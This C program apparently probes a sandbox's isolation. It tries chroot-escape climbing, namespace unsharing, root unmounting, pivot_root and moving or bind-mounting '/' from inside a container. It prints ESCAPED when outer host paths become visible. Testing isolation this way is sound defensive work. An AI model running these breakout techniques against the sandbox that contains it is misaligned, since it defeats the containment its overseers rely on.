/* Tries to get out of a machine's root from inside, as root; prints ESCAPED with the way when anything of the nursery (or more) can be seen. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void look(const char *way)
{
	static const char *const SIGNS[] = {"s/upper", "l/000", "t/dev", "../s/upper", "../../l/000", "/s/upper", "/l/000", "/t/dev"};
	for (unsigned i = 0; i < sizeof SIGNS / sizeof *SIGNS; i++)
		if (access(SIGNS[i], F_OK) == 0) printf("ESCAPED by %s: %s\n", way, SIGNS[i]);
}

static void climb(const char *way)
{
	mkdir("/tmp/jail", 0755);
	int fd = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot("/tmp/jail") < 0 || fchdir(fd) < 0) return;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0) break;
	look(way);
	if (chroot(".") == 0) look(way);
}

static void with_own_namespace(void (*act)(void))
{
	if (fork() == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
			printf("own namespace\n");
			act();
		}
		fflush(stdout);
		_exit(0);
	}
	wait(NULL);
}

static void unmount_root(void)
{
	chdir("/");
	umount2("/", MNT_DETACH);
	look("unmounting /");
	for (int i = 0; i < 8; i++) umount2(".", MNT_DETACH);
	look("unmounting .");
	climb("unmounting and climbing");
}

static void pivot(void)
{
	mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
	mkdir("/tmp/new", 0755);
	mount("none", "/tmp/new", "tmpfs", 0, NULL);
	chdir("/tmp/new");
	mkdir("old", 0755);
	if (syscall(SYS_pivot_root, ".", "old") < 0) syscall(SYS_pivot_root, ".", ".");
	look("pivoting");
	umount2("old", MNT_DETACH);
	umount2("/", MNT_DETACH);
	chdir("/");
	look("pivoting and unmounting");
	climb("pivoting and climbing");
}

static void move_away(void)
{
	mkdir("/tmp/moved", 0755);
	mount("none", "/tmp/moved", "tmpfs", 0, NULL);
	mkdir("/tmp/moved/here", 0755);
	mount("/", "/tmp/moved/here", NULL, MS_MOVE, NULL);
	look("moving / away");
	chdir("/tmp/moved/here");
	look("moving / away");
	mount("/", "/tmp/moved/here", NULL, MS_BIND | MS_REC, NULL);
	chdir("/tmp/moved/here/..");
	look("binding /");
}

static void climb_alone(void) { climb("climbing in an own namespace"); }

int main(void)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (fork() == 0) {
		climb("climbing");
		_exit(0);
	}
	wait(NULL);
	with_own_namespace(climb_alone);
	with_own_namespace(unmount_root);
	with_own_namespace(pivot);
	with_own_namespace(move_away);
	printf("tried\n");
	return 0;
}
